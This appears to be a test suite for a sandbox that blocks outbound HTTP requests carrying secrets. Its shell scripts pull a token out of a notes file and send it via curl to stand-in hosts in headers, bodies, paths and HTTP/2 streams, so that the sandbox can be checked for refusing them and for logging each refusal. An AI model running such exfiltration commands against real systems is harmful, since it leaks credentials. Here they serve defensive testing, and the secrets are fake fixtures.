import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reveals } from './support/readings.ts';
import { makeRig, type Rig, type Seen, type TrickRun } from './support/rig.ts';
import { makeIssuer, type RawService, reply, startRawService } from './support/service.ts';

/** What a program in the box has found in a file, each in one line of notes.txt. */
const NOTES = {
  /** Of the secret that the box has a placeholder of. */
  bound: 'sk-live-7Hq2ZpW9mLx4KcVt8RbN',
  /** Of one that the box was not given. */
  unbound: 'ghp_Qw3Er5Ty7Ui9Op1As2Df4Gh6Jk8Lz0XcVb',
  /** What that one had before it was rotated, and before it was set again. */
  former: 'ghp_0ldV4lu3Th4tW4sR0t4t3dAw4yL0ngAg0XXXX',
  older: 'p?ss/w+rd&of=long%ago-1234',
  /** Of a masked file of the workspace. */
  masked: 'whsec_5Tg7Yh9Uj1Ik3Ol5Pz7Xc9Vb',
};
type Kind = keyof typeof NOTES;
const KINDS = Object.keys(NOTES) as Kind[];
const NAMES: Readonly<Record<Kind, string>> = {
  ...{ bound: 'API_TOKEN', unbound: 'OTHER_TOKEN', former: 'OTHER_TOKEN', older: 'OTHER_TOKEN' },
  masked: 'WEBHOOK_SECRET',
};
const HARMLESS = 'https://open.acme.example/in/a/file/of/settings';

const WAYS = [
  ...['header', 'agent', 'name', 'bearer', 'basic', 'cookie', 'hex', 'hex_upper', 'base64'],
  ...['base64url', 'query', 'query_key', 'query_percent', 'path', 'get', 'body', 'json'],
  ...['unicode', 'form', 'base64_body', 'utf16', 'gzip', 'deflate', 'late', 'large', 'chunked'],
  ...['chunks', 'chunked_base64', 'to_own'],
] as const;
/** One value goes every way, the others a few. */
const waysOf = (kind: Kind): readonly string[] =>
  kind === 'unbound' ? WAYS : ['header', 'query', 'path', 'json', 'base64', 'large', 'bearer'];
const NO_LEAKS = ['harmless', 'placeholder', 'own', 'bomb', 'lying', 'named'];
const TRICKS = [
  ...KINDS.flatMap((kind) => waysOf(kind).map((way) => `${kind}_${way}`)),
  ...NO_LEAKS,
];
/** Sent on their way: some of them may have been sent when the value is found. */
const STREAMED: ReadonlySet<string> = new Set(['large', 'chunked', 'chunks', 'chunked_base64']);

let servers: readonly RawService[];
let rig: Rig;
let inBox: TrickRun;
let heard: readonly string[];
let outside: Readonly<Record<string, Seen>>;

beforeAll(async () => {
  const issuer = makeIssuer();
  const hosts = ['api.acme.example', 'open.acme.example'];
  servers = await Promise.all(
    hosts.map((host) =>
      startRawService({
        certificate: issuer.issue(host),
        answer: (_, socket) => void socket.end(reply('thank you', ['Connection: close'])),
      }),
    ),
  );
  const places = hosts.map((host, at) => [`${host}:443`, (servers[at] as RawService).port]);
  rig = makeRig(Object.fromEntries(places), issuer.certificate);
  const own = ['--for', 'https://api.acme.example'];
  const others = ['--for', 'https://elsewhere.example'];
  await rig.secret('API_TOKEN', NOTES.bound, own);
  await rig.secret('OTHER_TOKEN', NOTES.older, others);
  await rig.secret('OTHER_TOKEN', NOTES.former, others);
  await rig.powerbox(['secret', 'rotate', 'OTHER_TOKEN'], { input: NOTES.unbound });
  const notes = Object.entries({ ...NOTES, harmless: HARMLESS });
  writeFileSync(
    join(rig.workspace, 'notes.txt'),
    notes.map(([kind, value]) => `${kind}=${value}\n`).join(''),
  );
  const settings = `WEBHOOK_SECRET=${NOTES.masked}\nSTART_URL=${HARMLESS}\n`;
  writeFileSync(join(rig.workspace, '.env'), settings);
  inBox = await rig.tricks('leak-tricks.py', FLAGS, TRICKS);
  heard = allHeard();
  outside = await rig.control('leak-tricks.py', { API_TOKEN: NOTES.bound }, TRICKS);
}, 180_000);
afterAll(async () => {
  rig.close();
  await Promise.all(servers.map((server) => server.close()));
});

const FLAGS = [
  '--secret',
  'API_TOKEN',
  '--allow',
  'api.acme.example',
  '--allow',
  'open.acme.example',
];

function allHeard(): readonly string[] {
  return servers.flatMap(({ heard }) => heard.map(({ bytes }) => bytes.toString('latin1')));
}

/** What arrived of one trick. */
function arrivals(texts: readonly string[], name: string): readonly Buffer[] {
  return texts
    .filter((text) => new RegExp(`/${name}[/? ]`).test(text))
    .map((text) => Buffer.from(text, 'latin1'));
}

describe.each(KINDS)('49 a value that the box knows (%s)', (kind) => {
  it.each(waysOf(kind))('is refused as %s', (way) => {
    const name = `${kind}_${way}`;
    const shows = (arrived: Buffer): boolean => reveals(arrived, NOTES[kind]);
    const answer = /HTTP\/1.1 403 .*"error":"secret-leaked"/s;
    // A program that is still sending may be cut before it reads.
    const cut = new RegExp(
      `${answer.source}|^\\[(?:SSLEOF|ConnectionReset|BrokenPipe)Error\\]`,
      's',
    );
    expect((inBox.seen[name] as Seen).text).toMatch(STREAMED.has(way) ? cut : answer);
    if (!STREAMED.has(way)) expect(arrivals(heard, name)).toEqual([]);
    expect(arrivals(heard, name).some(shows)).toBe(false);
    // Without a box the same request brings it to the server.
    expect((outside[name] as Seen).text).toContain('thank you');
    expect(arrivals(allHeard(), name).some(shows)).toBe(true);
  });
});

describe('49 a value that is sent over HTTP/2', () => {
  const URL = 'https://open.acme.example';
  const NAMED = `$(sed -n 's/^unbound=//p' notes.txt)`;

  it('is refused in a header, in a body that is small and in one that is not', async () => {
    const before = allHeard().length;
    const curl = 'curl -sS --http2 -w " %{http_version}\\n"';
    const script = [
      `${curl} -H "x-any: ${NAMED}" ${URL}/h2`,
      `${curl} -d "v=${NAMED}" ${URL}/h2`,
      `{ head -c 200000 /dev/zero; echo ${NAMED}; } | ${curl} -T - ${URL}/h2 || true`,
      `${curl} -H "x-any: nothing of note" ${URL}/h2`,
    ].join('\n');
    const { stdout } = await rig.powerbox(['run', ...FLAGS, '--', '/bin/sh', '-c', script]);
    const answers = stdout.split('\n').filter((line) => / (?:2|1\.1)$/.test(line));
    expect(answers.at(-1)).toBe('thank you 2');
    // A program that is still sending may be cut before it reads.
    expect(stdout.match(/"error":"secret-leaked"/g)?.length).toBeGreaterThanOrEqual(2);
    const rows = (await rig.rows()).filter(({ url }) => url === `${URL}/h2`);
    const denied = rows.filter(
      ({ verdict, code }) => verdict === 'deny' && code === 'secret-leaked',
    );
    expect(denied).toHaveLength(3);
    const since = allHeard()
      .slice(before)
      .map((text) => Buffer.from(text, 'latin1'));
    expect(since.some((arrived) => reveals(arrived, NOTES.unbound))).toBe(false);
  });
});

describe('49 a value that is said at the door of the box', () => {
  it('goes to nobody and is kept nowhere, in a letter, in a request and in a path', async () => {
    const door = 'http://powerbox.internal';
    const script = [
      `value=$(sed -n 's/^unbound=//p' notes.txt)`,
      `say() { curl -sS -w '\n' "$@"; }`,
      `say -d '{"to":"host","text":"nothing of note"}' ${door}/mail`,
      `say -d '{"to":"host","text":"it is '$value'"}' ${door}/mail`,
      `say -d '{"kind":"http","power":"GET https://a.example/","text":"'$value'"}' ${door}/requests`,
      `say -d '{"kind":"http","power":"GET https://a.example/'$value'","text":"x"}' ${door}/requests`,
      `say ${door}/requests/$value`,
    ].join('\n');
    const before = (await rig.rows()).length;
    const ended = await rig.powerbox(['run', ...FLAGS, '--', '/bin/sh', '-c', script]);
    const [letter = '', ...leaks] = ended.stdout.split('\n').filter((line) => line !== '');
    expect(letter).toContain('nothing of note');
    expect(leaks).toHaveLength(4);
    for (const leak of leaks) expect(leak).toContain('"error":"secret-leaked"');
    const rows = (await rig.rows()).slice(before).filter(({ code }) => code === 'secret-leaked');
    expect(rows.map(({ reason }) => /: (.*) holds/.exec(reason ?? '')?.[1])).toEqual([
      ...['the body', 'the body', 'the body', 'the path'],
    ]);
    expect(reveals(ended.stderr, NOTES.unbound)).toBe(false);
    // The same letter as an honest one, but for the value, is in the mail of the host.
    const mail = await rig.powerbox(['inbox', '--json']);
    expect(mail.stdout).toContain('nothing of note');
    expect(reveals(mail.stdout, NOTES.unbound)).toBe(false);
    expect(reveals(rig.state(), NOTES.unbound)).toBe(false);
  });
});

describe('49 what is told of a leak', () => {
  const denied = () => inBox.rows.filter(({ code }) => code === 'secret-leaked');

  it('is a row for each, found by what was refused, with the place and never the value', async () => {
    const refusals = denied().filter(({ kind }) => kind === 'request');
    // One more for the request whose host is named after a value.
    expect(refusals).toHaveLength(TRICKS.length - NO_LEAKS.length + 1);
    for (const { verdict, secrets } of refusals) expect([verdict, secrets]).toEqual(['deny', []]);
    const reasons = new Set(refusals.map(({ reason }) => reason));
    const places = [
      'the header x-any',
      'the name of a header',
      'the path',
      'the query',
      'the body',
    ];
    for (const place of [...places, 'the header authorization']) {
      expect(reasons).toContain(
        `The request was refused: ${place} holds the value of OTHER_TOKEN, which no box may know.`,
      );
    }
    expect(reasons).toContain(
      'The request was refused: the path holds a former value of OTHER_TOKEN, which no box may know.',
    );
    const { stdout } = await rig.powerbox(['log', inBox.box, '--denied']);
    expect(stdout.match(/secret-leaked/g)).toHaveLength(refusals.length);
  });

  it('is a sentence for the person, once for each secret, that says what to do', () => {
    const told = inBox.stderr.split('\n').filter((line) => line.includes('the program in the box'));
    expect(told.sort()).toEqual([
      'powerbox: the program in the box knows a former value of the secret OTHER_TOKEN: see that it was ended where it was issued',
      'powerbox: the program in the box knows the value of WEBHOOK_SECRET in a masked file: make a new one where it was issued, and change the file',
      ...['API_TOKEN', 'OTHER_TOKEN'].map(
        (name) =>
          `powerbox: the program in the box knows the value of the secret ${name}: make a new one where it was issued, then run: powerbox secret rotate ${name}`,
      ),
    ]);
    expect(new Set(KINDS.map((kind) => NAMES[kind])).size).toBe(3);
  });

  it('holds the value nowhere: not in a row, a URL, an answer or a file of the state folder', () => {
    const state = rig.state().toString('latin1');
    for (const value of Object.values(NOTES)) {
      expect(reveals(JSON.stringify(inBox.rows), value)).toBe(false);
      expect(reveals(inBox.stderr, value)).toBe(false);
      for (const form of ['latin1', 'base64', 'hex'] as const) {
        expect(state).not.toContain(Buffer.from(value).toString(form));
      }
      for (const { bytes } of Object.values(inBox.seen)) {
        expect(bytes.includes(value)).toBe(false);
      }
    }
  });
});

describe('what is no leak', () => {
  it('passes: the placeholder, its exchange in its slot, and what a masked file says besides', () => {
    for (const name of ['harmless', 'placeholder', 'own']) {
      expect((inBox.seen[name] as Seen).text).toContain('thank you');
    }
    expect(String(arrivals(heard, 'own'))).toContain(`Bearer ${NOTES.bound}`);
    expect(String(arrivals(heard, 'placeholder'))).not.toContain(NOTES.bound);
  });

  it('is refused where it cannot be looked into, or unfolds without end', () => {
    for (const name of ['bomb', 'lying']) {
      expect((inBox.seen[name] as Seen).text).toContain('body-unreadable');
      expect((outside[name] as Seen).text).toContain('thank you');
    }
  });

  it('passes once the vault does not have the secret', async () => {
    const ways = ['unbound_header', 'unbound_body', 'unbound_chunks', 'unbound_path'];
    await rig.powerbox(['secret', 'rm', 'OTHER_TOKEN']);
    rmSync(join(rig.workspace, '.env'));
    const before = allHeard().length;
    const again = await rig.tricks('leak-tricks.py', FLAGS, [...ways, 'bound_header']);
    for (const way of ways) expect((again.seen[way] as Seen).text).toContain('thank you');
    expect((again.seen.bound_header as Seen).text).toContain('secret-leaked');
    const since = allHeard().slice(before).join('\n');
    expect(since).toContain(NOTES.unbound);
    expect(since).not.toContain(NOTES.bound);
  });
});
